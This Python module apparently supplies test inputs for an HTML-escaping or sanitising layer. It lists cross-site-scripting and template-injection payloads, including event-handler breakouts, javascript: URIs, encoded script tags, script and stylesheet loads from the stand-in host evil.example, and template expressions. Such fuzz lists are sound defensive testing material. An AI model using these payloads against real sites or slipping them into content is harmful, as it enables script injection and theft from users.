"""Texts that try to become something else than text: markup, handlers, links, templates."""

from __future__ import annotations

from typing import Final

PLAIN: Final = (
    "<script>alert(1)</script>", "<script>hit()</script>", "<SCRIPT SRC=//evil.example>",
    "<script src=data:,hit()>", "<script>hit`1`</script>", "<scr<script>ipt>hit()</script>",
    "</script><script>hit()//", "</title><script>hit()</script>", "</textarea><img onerror=hit()>",
    "</select><svg onload=hit()>", "</style><script>hit()", "<!--><script>hit()</script>",
    "--><script>hit()</script>", "]]><script>hit()</script>", "<![CDATA[<script>hit()]]>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<style>*{background:url(//evil.example)}</style>",
    "<style>@import'//evil.example'</style>", "<iframe src=javascript:hit()>",
    "<iframe srcdoc='<script>hit()</script>'>", "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>", "<form action=javascript:hit()><button>", "<template><script>",
    "<a href=javascript:hit()>x</a>", "<a href='java\tscript:hit()'>x</a>", "javascript:hit()",
    "JaVaScRiPt:hit()", "data:text/html,<script>hit()</script>", "vbscript:hit()", "//evil.example",
    "https://evil.example/", "{{7*7}}", "{{constructor.constructor('hit()')()}}", "${hit()}",
    "#{hit()}", "<%= hit() %>", "{% raw %}{{hit()}}", "{{ ''.__class__.__mro__ }}", "%3Cscript%3E",
    "&lt;script&gt;hit()&lt;/script&gt;", "&#60;script&#62;hit()", "&#x3c;img src onerror=hit()>",
    "\\x3cscript\\x3ehit()", "\\u003cscript\\u003ehit()", "\"><script>hit()</script>",
    "'><script>hit()</script>", "\" onmouseover=hit() x=\"", "' onfocus=hit() autofocus '",
    "` onmouseover=hit()", "\" autofocus onfocus=hit() \"", "';hit();//", "\";hit();//",
    "\\\";hit()//", "</script>", "<!--", "-->", "<", ">", "&", "\"", "'", "`", "\\", "/*",
    "*/hit()/*",
    "<svg><script>hit()</script>", "<svg><animate onbegin=hit() attributeName=x>",
    "<svg><set onbegin=hit()>", "<svg><use href=data:,x>", "<math><mtext><script>hit()",
    "<math href=javascript:hit()>x", "<isindex action=javascript:hit()>", "<x/onclick=hit()>x",
    "<IMG \"\"\"><SCRIPT>hit()</SCRIPT>\">", "<img src=x:hit() onerror=eval(src)>",
    "<img/src/onerror=hit()>",
    "<img src=`x`onerror=hit()>", "<IMG SRC=&#106;avascript:hit()>",
    "<div style=width:expression(hit())>",
    "<p style=background:url(//evil.example)>", "<b>bold</b>", "<h1>Huge</h1>", "<plaintext>",
    "<noscript><p title='</noscript><img src onerror=hit()>'>",
    "<table><td background=//evil.example>",
    "__proto__", "constructor", "toString", "null", "undefined", "NaN", "[object Object]",
    "\u202e<script>", "\u200d<script>\u200d", "\ufeff<script>hit()", "<\u0300script>",
    "＜script＞hit()",
)  # fmt: skip
TAGS: Final = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus",
    "marquee", "select autofocus",
)  # fmt: skip
EVENTS: Final = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerenter")
PAYLOADS: Final = (*PLAIN, *(f"<{tag} {event}=hit()>" for tag in TAGS for event in EVENTS))
